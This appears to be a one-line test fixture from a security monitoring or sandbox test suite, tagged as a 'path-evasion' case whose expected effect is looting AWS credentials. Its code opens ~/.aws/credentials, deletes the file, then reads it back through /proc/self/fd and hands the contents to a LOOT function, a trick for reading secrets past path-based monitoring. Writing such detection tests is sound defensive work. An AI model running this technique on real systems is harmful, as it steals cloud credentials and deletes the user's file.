#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials( \\(deleted\\))?$"], ["unlink", "credentials"]], "effect": {"loot": "aws"}}
f = os.open(HOME + "/.aws/credentials", os.O_PATH); os.unlink(HOME + "/.aws/credentials"); LOOT(open("/proc/self/fd/%d" % f).read())
